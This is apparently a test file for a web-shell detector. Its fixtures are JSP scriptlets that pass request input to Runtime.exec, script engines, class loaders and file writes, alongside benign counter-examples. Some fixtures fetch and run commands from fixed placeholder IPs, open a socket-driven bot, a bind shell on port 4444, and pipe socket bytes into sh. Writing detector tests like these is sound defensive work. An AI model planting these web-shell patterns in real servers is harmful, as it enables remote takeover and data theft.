"""JSP scriptlets: extraction into a Java unit, and request input followed to execution sinks."""

from __future__ import annotations

import pytest

from webhunt.detect.document import Document
from webhunt.detect.semantic import SemanticLayer
from webhunt.detect.semantic.jsp import extract
from webhunt.model import FileContext, Language, Reason, Verdict

CODE, CMD, DYN, CLASSLOAD, WRITE, UPLOAD = (
    "WH-S-JSP-001",
    "WH-S-JSP-002",
    "WH-S-JSP-003",
    "WH-S-JSP-007",
    "WH-S-JSP-005",
    "WH-S-JSP-006",
)


def analyse(page: str, relpath: str = "x.jsp") -> list[Reason]:
    data = page.encode("utf-8")
    ctx = FileContext(relpath=relpath, language=Language.JSP, size=len(data))
    return SemanticLayer()(Document(data), ctx, _no_rescan)


def _no_rescan(data: bytes, ctx: FileContext) -> Verdict:
    raise AssertionError("the semantic layer never re-scans")


def test_extraction_keeps_page_offsets() -> None:
    page = b'<%@ page import="java.io.*" %>\n<html><%! int n = 1; %>\n<% String s = "x"; %>\n<%= s %>'
    unit = extract(page)
    assert unit is not None
    src = unit.source
    assert b"int n = 1;" in src and b'String s = "x";' in src and b"out.print( s );" in src
    assert src.index(b"int n") < src.index(b"_jspService") < src.index(b"String s")
    at = src.index(b"String s")
    assert page[unit.page_offset(at) : unit.page_offset(at) + 8] == b"String s"
    assert extract(b"<html>no code</html>") is None


def test_jspx_scriptlets_are_unescaped() -> None:
    page = b"<jsp:scriptlet>if (a &amp;&amp; b) { x(); }</jsp:scriptlet><![CDATA[ignored]]>"
    unit = extract(page)
    assert unit is not None and b"if (a && b)" in unit.source


def test_unicode_escapes_are_decoded_in_code_only() -> None:
    # javac decodes escapes (any number of u's) in the servlet; an escaped backslash starts none,
    # and an escape in a JSP comment cannot close it: tags are cut before the decoding
    page = (
        b"<%-- \\u0025\\u003e --%><% Runtime.getRun\\uu0074ime().e\\u0078ec(c); %>"
        b'<%! String s = "\\\\u0041"; %>'
    )
    unit = extract(page)
    assert unit is not None
    assert b"Runtime.getRuntime().exec(c);" in unit.source
    assert b'String s = "\\\\u0041";' in unit.source
    assert b"%>" not in unit.source


#: a name decoder carried by the page (each character shifted by one)
_DECODER = (
    "<%! static String d(String s) { StringBuilder b = new StringBuilder(); "
    "for (int i = 0; i < s.length(); i++) { b.append((char) (s.charAt(i) - 1)); } "
    'try { return b.toString(); } catch (Exception e) { return ""; } } %>'
)

FLOWS = [
    (
        "BCEL class loader named in pieces, created by reflection",
        '<% ClassLoader l = (ClassLoader) Class.forName("com.sun.org.apache." + "bcel.internal.util.Class"'
        ' + "Loader").newInstance(); l.loadClass(request.getParameter("c")); %>',
        CLASSLOAD,
    ),
    (
        "a BCEL-encoded class name assembled from fragments, loaded by any class loader",
        '<% String m = "$$" + "BC" + "EL$$"; Thread.currentThread().getContextClassLoader()'
        '.loadClass(m + request.getParameter("c")); %>',
        CLASSLOAD,
    ),
    (
        "BCEL class loader created by its qualified name",
        '<% new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(request.getParameter("c")); %>',
        CLASSLOAD,
    ),
    ("exec", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', CMD),
    (
        "exec spelt with unicode escapes",
        '<% Runtime.getRuntime().e\\u0078ec(request.getParameter("c")); %>',
        CMD,
    ),
    (
        "java.beans expression",
        '<% String c = request.getParameter("c"); '
        'new java.beans.Expression(Runtime.getRuntime(), "exec", new Object[]{c}).getValue(); %>',
        CMD,
    ),
    (
        "java.beans statement choosing the method",
        '<% new java.beans.Statement(Runtime.getRuntime(), request.getParameter("m"), new Object[]{"id"})'
        ".execute(); %>",
        DYN,
    ),
    (
        "renamed request",
        '<% javax.servlet.http.HttpServletRequest r = request; String c = r.getHeader("X"); '
        "Runtime rt = Runtime.getRuntime(); rt.exec(c); %>",
        CMD,
    ),
    (
        "array command",
        '<% String c = request.getParameter("c"); String[] a = {"sh", "-c", c}; '
        "Runtime.getRuntime().exec(a); %>",
        CMD,
    ),
    (
        "process builder list",
        '<% java.util.List<String> l = new java.util.ArrayList<String>(); l.add("sh"); '
        'l.add(request.getParameter("c")); new ProcessBuilder(l).start(); %>',
        CMD,
    ),
    (
        "script engine",
        "<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager()"
        '.getEngineByName("js"); e.eval(request.getParameter("s")); %>',
        CODE,
    ),
    (
        "reflection with built name",
        '<% Object rt = Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null); '
        'Class.forName("java.lang.Runtime").getMethod("ex" + "ec", String.class)'
        '.invoke(rt, request.getParameter("c")); %>',
        CMD,
    ),
    (
        "reversed builder",
        '<% String m = new StringBuilder("cexe").reverse().toString(); '
        'Runtime.class.getMethod(m, String.class).invoke(Runtime.getRuntime(), request.getParameter("q")); %>',
        CMD,
    ),
    (
        "input-chosen method",
        '<% Class.forName("java.lang.Runtime").getMethod(request.getParameter("m")).invoke(null); %>',
        DYN,
    ),
    (
        "define class",
        "<%! class L extends ClassLoader { L(ClassLoader p) { super(p); } "
        "Class d(byte[] b) { return super.defineClass(b, 0, b.length); } } %>"
        "<% byte[] b = java.util.Base64.getDecoder().decode(request.getReader().readLine()); "
        "new L(getClass().getClassLoader()).d(b).newInstance(); %>",
        CLASSLOAD,
    ),
    (
        "define class by reflection",
        '<% java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("define" + "Class", '
        'byte[].class, int.class, int.class); byte[] b = request.getParameter("p").getBytes(); '
        "m.invoke(getClass().getClassLoader(), b, 0, b.length); %>",
        CLASSLOAD,
    ),
    (
        "url class loader",
        '<% java.net.URL u = new java.net.URL(request.getParameter("u")); '
        'new java.net.URLClassLoader(new java.net.URL[]{u}).loadClass("P"); %>',
        CLASSLOAD,
    ),
    (
        "cookie",
        "<% for (javax.servlet.http.Cookie k : request.getCookies()) { "
        "Runtime.getRuntime().exec(k.getValue()); } %>",
        CMD,
    ),
    (
        "declared helper",
        "<%! String run(String c) throws Exception { Runtime.getRuntime().exec(c); return c; } %>"
        '<%= run(request.getParameter("x")) %>',
        CMD,
    ),
    (
        "file write",
        '<% java.io.FileOutputStream f = new java.io.FileOutputStream(request.getParameter("n")); '
        'f.write(request.getParameter("d").getBytes()); %>',
        WRITE,
    ),
    (
        "string builder append",
        '<% StringBuilder sb = new StringBuilder("ls "); sb.append(request.getParameter("d")); '
        "Runtime.getRuntime().exec(sb.toString()); %>",
        CMD,
    ),
    (
        "uploaded part written under its submitted name",
        '<% for (javax.servlet.http.Part p : request.getParts()) { p.write(application.getRealPath("/") + '
        "p.getSubmittedFileName()); } %>",
        UPLOAD,
    ),
    (
        "MultipartRequest into a directory the request names",
        '<% new com.oreilly.servlet.MultipartRequest(request, request.getParameter("d"), 1048576); %>',
        UPLOAD,
    ),
    (
        "TemplatesImpl bytecodes from the request",
        '<% byte[] c = java.util.Base64.getDecoder().decode(request.getParameter("d")); Object t = tc.newInstance();'
        ' java.lang.reflect.Field f = tc.getDeclaredField("_bytecodes"); f.setAccessible(true);'
        " f.set(t, new byte[][]{c}); %>",
        CLASSLOAD,
    ),
    (
        "method name decoded by the page, result kept as a Process",
        _DECODER + '<% Class k = Class.forName(d("kbwb/mboh/Svoujnf")); '
        'java.lang.reflect.Method g = k.getMethod(d("hfuSvoujnf")); '
        'java.lang.reflect.Method x = k.getMethod(d("fyfd"), String.class); '
        'Process p = (Process) x.invoke(g.invoke(null), request.getParameter(d("dne"))); %>',
        CMD,
    ),
    (
        "class and method names decoded by the page, handed request input",
        _DECODER + '<% Class k = Class.forName(d("dpn/fybnqmf/Ubtl")); '
        'Object r = k.getMethod(d("svo"), String.class).invoke(null, request.getParameter("a")); %>',
        DYN,
    ),
    (
        "commons-fileupload item written under the client's path",
        "<% ServletFileUpload u = new ServletFileUpload(new DiskFileItemFactory());"
        " for (FileItem it : u.parseRequest(request)) {"
        ' it.write(new File(application.getRealPath("/") + it.getName())); } %>',
        UPLOAD,
    ),
    (
        "commons-fileupload iterator into a chosen folder",
        "<% FileItemIterator i = new ServletFileUpload().getItemIterator(request);"
        ' FileItem f = (FileItem) i.next(); f.write(new File(request.getParameter("dir"), f.getName())); %>',
        UPLOAD,
    ),
    (
        "command read from a fixed remote address",
        '<% java.net.URL u = new java.net.URL("http://203.0.113.9/c.txt");'
        " java.io.BufferedReader r = new java.io.BufferedReader("
        " new java.io.InputStreamReader(u.openStream()));"
        " Runtime.getRuntime().exec(r.readLine()); %>",
        CMD,
    ),
    (
        "script read through a remote connection and evaluated",
        '<% java.net.URLConnection c = new java.net.URL("https://203.0.113.9/j.js").openConnection();'
        " String js = new String(c.getInputStream().readAllBytes());"
        ' new javax.script.ScriptEngineManager().getEngineByName("js").eval(js); %>',
        CODE,
    ),
    (
        "SQL console: the client's database and statement",
        '<% java.sql.Connection c = java.sql.DriverManager.getConnection(request.getParameter("url"), "sa", "");'
        ' java.sql.ResultSet r = c.createStatement().executeQuery(request.getParameter("sql")); %>',
        "WH-S-JSP-015",
    ),
    (
        "JNDI name chosen by the request (ldap:// or rmi:// loads the served class)",
        '<% javax.naming.Context c = new javax.naming.InitialContext(); c.lookup(request.getParameter("n")); %>',
        CODE,
    ),
    (
        "JEXL script from the request, the engine known by its declared type",
        "<% org.apache.commons.jexl3.JexlEngine j = new org.apache.commons.jexl3.JexlBuilder().create();"
        ' j.createScript(request.getParameter("s")).execute(null); %>',
        CODE,
    ),
    (
        "Rhino: the script is evaluateString's second argument",
        "<% org.mozilla.javascript.Context cx = org.mozilla.javascript.Context.enter();"
        ' cx.evaluateString(cx.initStandardObjects(), request.getHeader("X-S"), "s", 1, null); %>',
        CODE,
    ),
    (
        "groovy.util.Eval on the request",
        '<% out.print(groovy.util.Eval.me(request.getParameter("g"))); %>',
        CODE,
    ),
    (
        "Janino compiles the request's Java source",
        "<% org.codehaus.janino.ScriptEvaluator se = new org.codehaus.janino.ScriptEvaluator();"
        ' se.cook(request.getParameter("j")); se.evaluate(new Object[0]); %>',
        CODE,
    ),
    (
        "QLExpress runner on the request",
        '<% Object r = new ExpressRunner().execute(request.getParameter("q"), null, null, true, false); %>',
        CODE,
    ),
    (
        "SnakeYAML's default constructor on the request body",
        "<% Object o = new org.yaml.snakeyaml.Yaml().load(request.getInputStream()); %>",
        CODE,
    ),
    (
        "FreeMarker template text from the request (?new builds any class)",
        "<% freemarker.template.Configuration c = new freemarker.template.Configuration();"
        ' new freemarker.template.Template("t", new java.io.StringReader(request.getParameter("t")), c)'
        ".process(null, out); %>",
        CODE,
    ),
    (
        "XStream without type permissions on the request body",
        "<% com.thoughtworks.xstream.XStream x = new com.thoughtworks.xstream.XStream();"
        " Object o = x.fromXML(request.getReader()); %>",
        CODE,
    ),
]


@pytest.mark.parametrize(("name", "page", "expected"), FLOWS, ids=[f[0] for f in FLOWS])
def test_flow_is_found(name: str, page: str, expected: str) -> None:
    reasons = analyse(page)
    assert expected in {r.id for r in reasons}, [(r.id, r.description) for r in reasons]


def test_reason_points_into_the_page() -> None:
    page = (
        '<html>\n<body>\n<%\n  String c = request.getParameter("c");\n  Runtime.getRuntime().exec(c);\n%>\n'
    )
    (flow,) = analyse(page)
    assert flow.line == 5
    assert 'request.getParameter("c") (line 4)' in flow.description


BENIGN = [
    (
        "a class of the application's own package loaded by a name the request picks from letters",
        '<% String n = request.getParameter("r"); if (n != null && n.matches("[A-Za-z]{1,30}")) {'
        ' Thread.currentThread().getContextClassLoader().loadClass("com.example.reports." + n); } %>',
    ),
    (
        "the page's own query on a connection made with the user's database account",
        '<% java.sql.Connection c = java.sql.DriverManager.getConnection("jdbc:h2:mem:a", request.getParameter("u"), "");'
        ' java.sql.ResultSet r = c.createStatement().executeQuery("select * from t where k = \'" + request.getParameter("k") + "\'"); %>',
    ),
    (
        "data source looked up in the local JNDI namespace by a name the request picks",
        "<% javax.naming.Context c = new javax.naming.InitialContext();"
        ' Object ds = c.lookup("java:comp/env/jdbc/" + request.getParameter("db")); out.print(ds != null); %>',
    ),
    (
        "remote status text printed escaped",
        '<% java.net.URL u = new java.net.URL("https://status.example.org/health.txt");'
        " java.io.BufferedReader r = new java.io.BufferedReader("
        " new java.io.InputStreamReader(u.openStream()));"
        ' String s = r.readLine(); out.print(s == null ? "down" : s.replace("<", "&lt;")); %>',
    ),
    (
        "equals guard",
        '<% String m = request.getParameter("m"); if (m != null && m.equals("list")) '
        "{ Runtime.getRuntime().exec(m); } %>",
    ),
    (
        "parseInt",
        '<% int n = Integer.parseInt(request.getParameter("n")); Runtime.getRuntime().exec("seq " + n); %>',
    ),
    ("constant command", '<% Runtime.getRuntime().exec(new String[]{"uptime"}); %>'),
    ("echo parameter", '<%= request.getParameter("name") %>'),
    ("session attribute", '<% session.setAttribute("u", request.getParameter("u")); %>'),
    (
        "uploaded part written under a generated name",
        '<% javax.servlet.http.Part p = request.getPart("f"); p.write("/srv/att/" + java.util.UUID.randomUUID()); %>',
    ),
    (
        "MultipartRequest into a fixed directory",
        '<% new com.oreilly.servlet.MultipartRequest(request, "/srv/uploads", 1048576); %>',
    ),
    (
        "bean setters chosen by a computed name",
        '<%! static String setter(String f) { StringBuilder b = new StringBuilder("set"); b.append(f); '
        'return b.toString(); } %><% for (String f : new String[]{"Name", "City"}) { '
        "java.lang.reflect.Method m = bean.getClass().getMethod(setter(f), String.class); "
        "m.invoke(bean, request.getParameter(f)); } %>",
    ),
    (
        "class named by configuration, method by a literal",
        '<% Class h = Class.forName(application.getInitParameter("audit")); '
        'h.getMethod("record", String.class).invoke(null, request.getParameter("n")); %>',
    ),
    (
        "decoded method name called on request input, result not a Process",
        _DECODER + '<% Object v = String.class.getMethod(d("usjn")).invoke(request.getParameter("q")); %>',
    ),
    (
        "class chosen within one package, checked by a pattern with escaped dots",
        '<% String c = "com.example.widgets." + request.getParameter("w"); '
        'if (c.matches("com\\\\.example\\\\.widgets\\\\.[A-Za-z]+")) { '
        "Object w = Class.forName(c).getDeclaredConstructor().newInstance(); } %>",
    ),
    (
        "a fixed JEXL formula, the request's numbers passed as variables",
        "<% org.apache.commons.jexl3.JexlEngine j = new org.apache.commons.jexl3.JexlBuilder().create();"
        " org.apache.commons.jexl3.MapContext m = new org.apache.commons.jexl3.MapContext();"
        ' m.set("qty", request.getParameter("qty")); out.print(j.createExpression("qty * 2").evaluate(m)); %>',
    ),
    (
        "Rhino running the page's own script over a scope holding the request's value",
        "<% org.mozilla.javascript.Context cx = org.mozilla.javascript.Context.enter();"
        " org.mozilla.javascript.Scriptable sc = cx.initStandardObjects();"
        ' sc.put("q", sc, request.getParameter("q")); cx.evaluateString(sc, "q.length", "s", 1, null); %>',
    ),
    (
        "SnakeYAML limited to plain maps and lists (SafeConstructor)",
        "<% org.yaml.snakeyaml.Yaml y = new org.yaml.snakeyaml.Yaml(new org.yaml.snakeyaml.constructor"
        '.SafeConstructor(new org.yaml.snakeyaml.LoaderOptions())); out.print(y.load(request.getParameter("d"))); %>',
    ),
    (
        "FreeMarker with ?new limited to nothing before it reads the request's template",
        "<% freemarker.template.Configuration c = new freemarker.template.Configuration();"
        " c.setNewBuiltinClassResolver(freemarker.core.TemplateClassResolver.ALLOWS_NOTHING_RESOLVER);"
        ' new freemarker.template.Template("t", new java.io.StringReader(request.getParameter("t")), c)'
        ".process(null, out); %>",
    ),
    (
        "XStream restricted to the types it allows before reading the request",
        "<% com.thoughtworks.xstream.XStream x = new com.thoughtworks.xstream.XStream();"
        " x.allowTypes(new Class[]{java.util.HashMap.class}); Object o = x.fromXML(request.getReader()); %>",
    ),
]

#: The same pages with a pattern that admits almost anything: the input is not validated.
LOOSE_PATTERNS = ['"com\\\\.example\\\\..*"', '"[^/]+"', '"\\\\S+"', '"[a-z.]+"']


@pytest.mark.parametrize("pattern", LOOSE_PATTERNS)
def test_a_loose_pattern_is_no_guard(pattern: str) -> None:
    page = (
        '<% String c = "com.example.widgets." + request.getParameter("w"); '
        f"if (c.matches({pattern})) {{ Object w = Class.forName(c).getDeclaredConstructor().newInstance(); }} %>"
    )
    assert analyse(page)


@pytest.mark.parametrize(("name", "page"), BENIGN, ids=[b[0] for b in BENIGN])
def test_guarded_or_harmless_input_is_not_reported(name: str, page: str) -> None:
    assert analyse(page) == []


def test_an_upload_kept_under_its_own_name_is_low_unless_the_page_serves_the_form() -> None:
    handler = (
        "<% for (FileItem it : new ServletFileUpload(new DiskFileItemFactory()).parseRequest(request)) {"
        ' it.write(new File(application.getRealPath("/up"), new File(it.getName()).getName())); } %>'
    )
    (alone,) = analyse(handler)
    assert alone.id == "WH-S-JSP-009" and alone.score < 40
    page = handler + '<form method="post" enctype="multipart/form-data"><input type="file" name="f"></form>'
    (own,) = analyse(page)
    assert own.id == "WH-S-JSP-009" and own.score >= 40
    generated = handler.replace("new File(it.getName()).getName()", 'java.util.UUID.randomUUID() + ".pdf"')
    assert analyse(generated) == []


FORWARD = "WH-S-JSP-014"


def test_request_posted_on_to_a_host_the_request_names_is_a_relay() -> None:
    page = (
        '<%@ page import="java.net.*,java.io.*" %><%!'
        " static void send(String to, byte[] body) throws Exception {"
        " HttpURLConnection c = (HttpURLConnection) new URL(to).openConnection(); c.setDoOutput(true);"
        " OutputStream o = c.getOutputStream(); o.write(body); }"
        ' %><% send(request.getParameter("srv") + request.getParameter("p"),'
        ' request.getParameter("d").getBytes()); %>'
    )
    assert FORWARD in {r.id for r in analyse(page)}
    # the page's own backend: the request chooses only the path under a fixed host
    own = (
        '<%@ page import="java.net.*,java.io.*" %><%'
        ' HttpURLConnection c = (HttpURLConnection) new URL("http://orders.internal/api/"'
        ' + request.getParameter("a")).openConnection(); c.setDoOutput(true);'
        ' new DataOutputStream(c.getOutputStream()).write(request.getParameter("d").getBytes()); %>'
    )
    assert FORWARD not in {r.id for r in analyse(own)}


DB_CONSOLE = (
    '<%@ page import="java.sql.*" %><% {GATE}\n Class.forName(request.getParameter("driver"));'
    ' Connection c = DriverManager.getConnection(request.getParameter("url")); %>'
)


@pytest.mark.parametrize(
    ("gate", "low"),
    [
        ('if (!request.isUserInRole("ops")) { response.sendError(403); return; }', True),
        ('if (request.getRemoteUser() == null || !request.isUserInRole("ops")) return;', True),
        # switched off by `&&`, hidden in a block that never runs, or in a method nobody calls
        ('if (false && !request.isUserInRole("ops")) return;', False),
        ('if (1 > 2) { if (!request.isUserInRole("ops")) return; }', False),
        (
            '%><%! void guard(HttpServletRequest request) { if (!request.isUserInRole("ops")) return; } %><%',
            False,
        ),
        ("", False),
    ],
)
def test_a_container_role_check_first_makes_a_console_an_admin_feature(gate: str, low: bool) -> None:
    (reason,) = [r for r in analyse(DB_CONSOLE.replace("{GATE}", gate)) if r.id == DYN]
    assert (reason.score < 40) is low


UPLOAD_LOOP = (
    '<%@ page import="org.apache.commons.fileupload.*,java.util.*,java.io.*" %><%'
    " List items = new DiskFileUpload().parseRequest(request);"
    " for (Object o : items) { FileItem it = (FileItem) o; String name = it.getName();"
    ' {STEP} it.write(new File("/srv/in/" + name)); } %>'
)


@pytest.mark.parametrize(
    ("step", "expected"),
    [
        ('name = name.substring(name.lastIndexOf("/") + 1);', "WH-S-JSP-009"),
        ("name = name.substring(name.lastIndexOf(File.separator) + 1);", "WH-S-JSP-009"),
        # only on some requests, or cut at something other than a directory separator
        ('if (name.length() > 80) name = name.substring(name.lastIndexOf("/") + 1);', UPLOAD),
        ('name = name.substring(name.lastIndexOf("_") + 1);', UPLOAD),
    ],
)
def test_a_name_cut_after_its_last_separator_keeps_no_directories(step: str, expected: str) -> None:
    ids = {r.id for r in analyse(UPLOAD_LOOP.replace("{STEP}", step))}
    assert expected in ids
    if expected != UPLOAD:
        assert UPLOAD not in ids


FILE = "WH-S-JSP-012"

FILE_FLOWS = [
    (
        "declared helper writes the path it is given",
        "<%! void save(String p, String t) throws Exception { java.io.FileWriter w = new java.io.FileWriter(p);"
        " w.write(t); w.close(); } %>"
        '<% save(request.getParameter("p"), request.getParameter("t")); %>',
    ),
    ("file deleted by request path", '<% new java.io.File(request.getParameter("f")).delete(); %>'),
    (
        "file renamed to a request path",
        '<% java.io.File a = new java.io.File("/srv/a.txt"); a.renameTo(new java.io.File(request.getParameter("to"))); %>',
    ),
    (
        "multipart parsed by hand in a declared class",
        "<%! static class R { private ServletInputStream in; private byte[] b = new byte[99]; private String name;"
        " void take(HttpServletRequest q) throws Exception { in = q.getInputStream();"
        " int n = in.readLine(b, 0, b.length); name = new String(b, 0, n).substring(10); }"
        ' void keep() throws Exception { new java.io.FileOutputStream(new java.io.File("/srv", name)).close(); } } %>',
    ),
]


@pytest.mark.parametrize(("name", "page"), FILE_FLOWS, ids=[f[0] for f in FILE_FLOWS])
def test_request_chosen_file_is_found(name: str, page: str) -> None:
    reasons = analyse(page)
    assert FILE in {r.id for r in reasons}, [(r.id, r.description) for r in reasons]


FILE_SAFE = [
    (
        "file opened read-only",
        '<% java.io.RandomAccessFile r = new java.io.RandomAccessFile(request.getParameter("f"), "r"); r.close(); %>',
    ),
    (
        "body copied under a generated name",
        "<% java.io.InputStream in = request.getInputStream(); byte[] b = new byte[512]; int n;"
        ' java.io.OutputStream o = new java.io.FileOutputStream(new java.io.File("/srv/in", java.util.UUID.randomUUID() + ".csv"));'
        " while ((n = in.read(b)) > 0) o.write(b, 0, n); o.close(); %>",
    ),
    (
        "bare name deleted inside a fixed folder",
        '<% String bare = new java.io.File(request.getParameter("f")).getName();'
        ' new java.io.File("/srv/spool", bare).delete(); %>',
    ),
    (
        "helper never given request input",
        '<%! void rm(String p) { new java.io.File(p).delete(); } %><% rm("/tmp/x"); %>',
    ),
    (
        "upload copied under a generated name",
        '<% javax.servlet.http.Part p = request.getPart("a"); java.nio.file.Files.copy(p.getInputStream(),'
        ' java.nio.file.Paths.get("/srv/avatars", java.util.UUID.randomUUID() + ".png")); %>',
    ),
    (
        "request-named file only read into the response",
        '<% java.nio.file.Files.copy(java.nio.file.Paths.get("/srv/docs", "manual.pdf"), response.getOutputStream()); %>',
    ),
]


@pytest.mark.parametrize(("name", "page"), FILE_SAFE, ids=[f[0] for f in FILE_SAFE])
def test_fixed_or_stripped_file_is_not_reported(name: str, page: str) -> None:
    assert FILE not in {r.id for r in analyse(page)}


@pytest.mark.parametrize(
    ("page", "expected"),
    [
        # a task fetched from a fixed address and run
        (
            "<% java.io.BufferedReader r = new java.io.BufferedReader(new java.io.InputStreamReader("
            'new java.net.URL("http://192.0.2.6/t").openStream())); Runtime.getRuntime().exec(r.readLine()); %>',
            CMD,
        ),
        # the same through the URL's connection
        (
            '<% java.net.URLConnection c = new java.net.URL("https://192.0.2.6/t").openConnection();'
            " java.util.Scanner s = new java.util.Scanner(c.getInputStream());"
            ' new ProcessBuilder(s.nextLine().split(" ")).start(); %>',
            CMD,
        ),
        # a bot: lines from a socket to a fixed address run one by one
        (
            '<% java.net.Socket k = new java.net.Socket("198.51.100.8", 6667);'
            " java.io.BufferedReader in = new java.io.BufferedReader(new java.io.InputStreamReader(k.getInputStream()));"
            " String l; while ((l = in.readLine()) != null) { Runtime.getRuntime().exec(l); } %>",
            CMD,
        ),
        # a bind shell: what a client of the listening socket sends
        (
            "<% java.net.ServerSocket ss = new java.net.ServerSocket(4444); java.net.Socket c = ss.accept();"
            " java.io.DataInputStream d = new java.io.DataInputStream(c.getInputStream());"
            " Runtime.getRuntime().exec(d.readLine()); %>",
            CMD,
        ),
        # the socket's bytes read into a buffer and written into a shell's standard input
        (
            '<% java.net.Socket k = new java.net.Socket("198.51.100.8", 53); Process p = Runtime.getRuntime().exec("sh");'
            " byte[] b = new byte[512]; int n = k.getInputStream().read(b); p.getOutputStream().write(b, 0, n); %>",
            CMD,
        ),
        # request input written into a shell's standard input through a PrintWriter
        (
            '<% Process p = new ProcessBuilder("cmd.exe").start();'
            " java.io.PrintWriter w = new java.io.PrintWriter(p.getOutputStream());"
            ' w.println(request.getParameter("c")); w.flush(); %>',
            CMD,
        ),
        # the request body read into a byte array that is then defined as a class
        (
            "<%! class L extends ClassLoader { Class d(byte[] b) { return defineClass(b, 0, b.length); } } %>"
            "<% byte[] b = new byte[request.getContentLength()]; request.getInputStream().read(b);"
            " new L().d(b).newInstance(); %>",
            CLASSLOAD,
        ),
        # java.nio.file.Files written out in full
        (
            '<% java.nio.file.Files.write(java.nio.file.Paths.get(request.getParameter("f")),'
            ' request.getParameter("d").getBytes()); %>',
            WRITE,
        ),
        # the request body copied into a file the request names (Files.copy, commons-io)
        (
            "<% java.nio.file.Files.copy(request.getInputStream(),"
            ' java.nio.file.Paths.get(request.getParameter("f"))); %>',
            WRITE,
        ),
        (
            "<% org.apache.commons.io.FileUtils.copyInputStreamToFile(request.getInputStream(),"
            ' new java.io.File(request.getParameter("f"))); %>',
            WRITE,
        ),
        # a stream copied to a file whose name is a script
        (
            '<% java.nio.file.Files.copy(request.getPart("p").getInputStream(),'
            ' java.nio.file.Paths.get("/srv/app/" + "shell.jsp")); %>',
            WRITE,
        ),
    ],
)
def test_what_a_fixed_address_a_socket_or_the_request_sends_is_followed(page: str, expected: str) -> None:
    reasons = analyse(page)
    assert expected in {r.id for r in reasons}, [(r.id, r.description) for r in reasons]


@pytest.mark.parametrize(
    "page",
    [
        # a feed shown escaped; replies written back on a socket are not a file
        '<% java.net.Socket k = new java.net.Socket("127.0.0.1", 25); java.io.PrintWriter w ='
        " new java.io.PrintWriter(k.getOutputStream(), true); java.io.BufferedReader in = new java.io.BufferedReader("
        ' new java.io.InputStreamReader(k.getInputStream())); w.println("QUIT " + in.readLine()); %>',
        # the application's own script fed to a shell
        '<% Process p = new ProcessBuilder("/bin/sh").start(); java.io.PrintWriter w = new java.io.PrintWriter('
        'p.getOutputStream()); w.println("cd /srv/app && ./rotate-logs"); w.close(); %>',
        # a program that is not a shell given downloaded data on its input
        '<% Process p = new ProcessBuilder("gpg", "--verify", "-").start(); byte[] b = new byte[64];'
        ' int n = new java.net.URL("https://example.com/s.asc").openStream().read(b);'
        " p.getOutputStream().write(b, 0, n); %>",
    ],
)
def test_own_connections_and_own_shell_scripts_are_not_reported(page: str) -> None:
    reasons = analyse(page)
    assert not {r.id for r in reasons} & {CMD, WRITE}, [(r.id, r.description) for r in reasons]


OUTER = "WH-S-JSP-017"


@pytest.mark.parametrize(
    "page",
    [
        "<% Process p = Runtime.getRuntime().exec(cmd); out.print(p.waitFor()); %>",
        '<% ProcessBuilder pb = new ProcessBuilder("/bin/sh", "-c", line); pb.start(); %>',
        '<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");'
        " out.print(e.eval(src)); %>",
        "<jsp:scriptlet>Object o = loader.defineClass(null, blob, 0, blob.length);</jsp:scriptlet>",
    ],
)
def test_a_sink_given_a_name_the_page_never_declares_is_a_fragment_of_a_split_shell(page: str) -> None:
    reasons = analyse(page, "WEB-INF/jspf/part.jspf")
    assert OUTER in {r.id for r in reasons}, [(r.id, r.description) for r in reasons]


@pytest.mark.parametrize(
    "page",
    [
        '<% String cmd = "uptime"; Runtime.getRuntime().exec(cmd); %>',  # declared here
        '<%! String[] argv = {"ls"}; %><% Runtime.getRuntime().exec(argv); %>',  # a field
        '<% for (String s : java.util.List.of("a")) { engine.eval(s); } %>',
        '<jsp:useBean id="job" class="x.Job" /><% Runtime.getRuntime().exec(job); %>',
        '<%@ include file="setup.jspf" %><% Runtime.getRuntime().exec(cmd); %>',  # its own include
        "<p>call exec(cmd) from the console</p>",  # template text
        "<%-- Runtime.getRuntime().exec(cmd) --%>",
    ],
)
def test_names_the_page_declares_or_text_outside_code_are_no_fragment(page: str) -> None:
    assert OUTER not in {r.id for r in analyse(page, "WEB-INF/jspf/part.jspf")}
